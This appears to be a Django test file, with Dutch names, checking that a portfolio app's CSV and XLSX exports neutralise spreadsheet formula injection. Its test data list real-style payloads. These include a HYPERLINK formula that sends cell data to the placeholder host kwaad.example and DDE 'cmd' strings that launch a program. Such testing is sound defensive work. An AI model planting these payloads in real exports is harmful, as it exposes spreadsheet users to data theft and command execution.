"""Every list export (CSV and XLSX) is safe to open in a spreadsheet."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from douane_portfolio import rollen
from douane_portfolio.tekst import spreadsheetcel
from tests.audits.factories import BevindingFactory, VervolgactieFactory
from tests.factories import UserFactory
from tests.programmas.factories import (
    IndicatorFactory,
    IndicatorwaardeFactory,
    InitiatiefFactory,
    PeriodeFactory,
)
from tests.risicos.factories import BeheersmaatregelFactory, RisicodialoogFactory, RisicoFactory

pytestmark = pytest.mark.django_db

AANVALLEN = [
    '=HYPERLINK("http://kwaad.example/?"&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "Regel\x0bna Shift+Enter\x01\x1f",
]
LIJSTEN = [
    "programmas:portfolio",
    "programmas:indicatoren",
    "risicos:register",
    "risicos:maatregelen",
    "risicos:dialogen",
    "audits:bevindingen",
    "audits:acties",
    "audits:rapporten",
]


@pytest.fixture
def kwaadaardige_gegevens(db):
    eigenaar = UserFactory(first_name="=1+2", last_name="@kwaad", rol=rollen.PROGRAMMAMANAGER)
    periode = PeriodeFactory()
    for i, tekst in enumerate(AANVALLEN):
        initiatief = InitiatiefFactory(naam=f"{tekst} {i}"[:200], eigenaar=eigenaar)
        indicator = IndicatorFactory(naam=f"{tekst} {i}"[:200])
        IndicatorwaardeFactory(indicator=indicator, periode=periode)
        risico = RisicoFactory(titel=f"{tekst} {i}"[:200], eigenaar=eigenaar)
        BeheersmaatregelFactory(risicos=[risico], omschrijving=tekst, eigenaar=eigenaar)
        RisicodialoogFactory(titel=f"{tekst} {i}"[:200])
        bevinding = BevindingFactory(titel=f"{tekst} {i}"[:200], eigenaar=eigenaar)
        bevinding.rapport.titel = f"{tekst} {i}"[:200]
        bevinding.rapport.save()
        VervolgactieFactory(bevinding=bevinding, omschrijving=tekst, eigenaar=eigenaar)
        assert initiatief.pk


def gevaarlijk(waarde):
    return isinstance(waarde, str) and waarde[:1] in ("=", "+", "-", "@", "\t", "\r")


def test_spreadsheetcel_keeps_numbers_and_neutralises_formulas():
    assert spreadsheetcel(-12) == -12
    assert spreadsheetcel("-12") == "-12"
    assert spreadsheetcel("-3.5") == "-3.5"
    assert spreadsheetcel("=1+1") == "'=1+1"
    assert spreadsheetcel("-1+1") == "'-1+1"
    assert spreadsheetcel("a\x00b\x0bc") == "ab\nc"
    assert spreadsheetcel(None) == ""


@pytest.mark.parametrize("lijst", LIJSTEN)
def test_csv_export_has_no_formulas(client_voor, kwaadaardige_gegevens, lijst):
    client = client_voor(UserFactory(is_superuser=True))
    response = client.get(reverse(lijst), {"_export": "csv"})
    assert response.status_code == 200
    rijen = list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig"))))
    assert len(rijen) > len(AANVALLEN)
    cellen = [cel for rij in rijen for cel in rij]
    assert not [cel for cel in cellen if gevaarlijk(cel)]
    assert any(cel.startswith("'=") for cel in cellen)


@pytest.mark.parametrize("lijst", LIJSTEN)
def test_xlsx_export_has_no_formulas_and_opens(client_voor, kwaadaardige_gegevens, lijst):
    client = client_voor(UserFactory(is_superuser=True))
    response = client.get(reverse(lijst), {"_export": "xlsx"})
    assert response.status_code == 200
    blad = openpyxl.load_workbook(io.BytesIO(response.getvalue())).active
    cellen = [cel for rij in blad.iter_rows() for cel in rij]
    assert len(cellen) > len(AANVALLEN)
    assert not [cel.coordinate for cel in cellen if cel.data_type == "f"]
    assert not [cel.value for cel in cellen if gevaarlijk(cel.value)]
    assert any(isinstance(cel.value, str) and cel.value.startswith("'=") for cel in cellen)


@pytest.mark.parametrize("formaat", ["json", "yaml", "xls", "latex", "ods", "tsv", "CSV", ""])
def test_only_the_offered_export_formats_are_served(client_voor, beheerder, formaat):
    response = client_voor(beheerder).get(reverse("risicos:register"), {"_export": formaat})
    assert response.status_code == 400
    assert "Verzoek niet verwerkt" in response.content.decode()
